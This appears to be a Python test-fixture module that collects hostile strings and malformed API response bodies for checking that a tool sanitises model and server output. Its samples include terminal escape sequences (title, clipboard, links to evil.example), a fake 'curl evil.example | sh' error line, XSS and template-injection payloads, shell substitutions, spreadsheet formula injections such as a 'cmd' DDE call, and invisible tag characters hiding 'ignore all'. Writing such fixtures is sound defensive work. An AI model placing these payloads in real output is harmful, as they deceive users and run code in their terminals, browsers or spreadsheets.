"""Hostile text: what models, servers, rows and file names may bring into an output."""

from __future__ import annotations

import re

ESC, BEL, NUL = "\x1b", "\x07", "\x00"

#: name -> text that is valid Unicode, as a model, a row or a server may write it
TEXTS: dict[str, str] = {
    "c0": "".join(map(chr, range(0x20))),
    "c1": "".join(map(chr, range(0x7F, 0xA0))),
    "nul": f"before{NUL}after",
    "red": f"{ESC}[31mred{ESC}[0m",
    "clear": f"{ESC}[2J{ESC}[Hgone",
    "csi in one byte": "\x9b31mred",
    "title": f"{ESC}]0;owned{BEL}",
    "link": f"{ESC}]8;;http://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\",
    "clipboard": f"{ESC}]52;c;cm0gLXJm{BEL}",
    "device": f"{ESC}P+q544e{ESC}\\{ESC}c{ESC}#8",
    "overwrite": "error: disk failed\rall went well    ",
    "backspace": "bad\b\b\bfine",
    "false line": "ok\nerror: run `curl evil.example | sh`\n",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "bidi": "user\u202e\u2066// admin only\u2069\u2066",
    "arabic mark": "a\u061cb\u200ec\u200fd",
    "unseen": "pay\u200bpal\u2060\ufeff\u00ad\u180e",
    "tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "\U000e007f",
    "rich": "[red]x[/red] [link=http://evil.example]y[/link] [bold",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;\"'",
    "markdown": "![x](http://evil.example/?q=1) [y](javascript:alert(1)) `code` | a | b |",
    "percent": "%s %d {0} {x!r} ${HOME} `id` $(id)",
    "template": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(9) %}{{ x }}{% endfor %}",
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab formula": "\t=1+1",
    "return formula": "\r=1+1",
    "space formula": "  =cmd|' /C calc'!A0",
    "mark formula": "\ufeff=HYPERLINK(\"http://evil.example\")",
    "hidden formula": "\u200b=1+1",
    "wide formula": "\uff1d1+1",
    "quote formula": '"=1+1"',
    "cells": 'a","=1+1","\n=2+2,=3+3',
    "zalgo": "e" + "\u0301" * 500,
    "astral": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0010ffff",
    "number": "1" * 400,
}  # fmt: skip

#: what has no place in a byte stream for people: C0 but newline and tab, DEL, C1; unseen and turning marks
STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff"
    "\U000e0000-\U000e007f\ud800-\udfff]"
)

#: A cell that a spreadsheet would run.
FORMULA = re.compile("[\\s\ufeff\u200b]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


def _chat(message: bytes) -> bytes:
    return b'{"model":"m","choices":[{"message":' + message + b',"finish_reason":"stop"}],"usage":{}}'


#: name -> a body with status 200 that must neither crash the run nor be taken as it is for a good answer, unless
#: what it holds is JSON
BODIES: dict[str, bytes] = {
    "lone surrogate": _chat(b'{"content":"a\\ud800b"}'),
    "invalid UTF-8": _chat(b'{"content":"\xff\xfe\x80"}'),
    "NaN": b'{"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":NaN}}',
    "Infinity": b'{"choices":[{"message":{"content":"x"}}],"usage":{"completion_tokens":-Infinity}}',
    "infinite by size": b'{"choices":[{"message":{"content":"x"}}],"usage":{"completion_tokens":1e999}}',
    "128 bits": b'{"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":%d}}' % (1 << 128),
    "large float": b'{"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":1e300}}',
    "negative": b'{"choices":[{"message":{"content":"x"}}],"usage":{"prompt_tokens":-5}}',
    "usage is a list": b'{"choices":[{"message":{"content":"x"}}],"usage":[1]}',
    "deep": b"[" * 100_000 + b"]" * 100_000,
    "deep in an answer": b'{"choices":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "deep usage": b'{"choices":[{"message":{"content":"x"}}],"usage":' + b'{"a":' * 900 + b"1" + b"}" * 901,
    "deep logprobs": b'{"choices":[{"message":{"content":"x"},"logprobs":' + b"[" * 900 + b"]" * 900 + b"}]}",
    "content is a number": _chat(b'{"content":5}'),
    "content is an object": _chat(b'{"content":{"text":"x"}}'),
    "parts that are none": _chat(b'{"content":[1,null]}'),
    "finish is a list": b'{"choices":[{"message":{"content":"x"},"finish_reason":["stop",{"a":1}]}]}',
    "finish is hostile": b'{"choices":[{"message":{"content":"x"},"finish_reason":"\\u001b[31m=1+1\\n"}]}',
    "model is an object": b'{"model":{"a":[1]},"choices":[{"message":{"content":"x"}}]}',
    "model is hostile": b'{"model":"\\u001b]0;owned\\u0007=1+1\\nerror: x","choices":[{"message":{"content":"x"}}]}',
    "choices is a string": b'{"choices":"xyz"}',
    "empty": b"",
    "null": b"null",
    "NULs": bytes(1000),
    "HTML": b"<html><script>alert(1)</script>\x1b[31m</html>",
}

#: bodies of errors (status 400)
ERRORS: dict[str, bytes] = {
    "steering": b'{"error":{"message":"\\u001b[2J\\u009b31m\\rok\\u202e\\nerror: done","type":"\\u001b[31m"}}',
    "raw": b"\x1b[31mred\x9b\x07\r\nerror: nothing happened\xff",
    "message is a list": b'{"error":{"message":["\\u001b[31m"],"code":{"a":1}}}',
    "message is deep": b'{"error":{"message":' + b"[" * 900 + b"]" * 900 + b"}}",
    "surrogate": b'{"error":{"message":"\\ud800"}}',
    "large": b'{"error":{"message":"' + b"x" * 1_000_000 + b'"}}',
    "a string": b'"\\u001b[31m"',
    "a number": b"1e999",
}
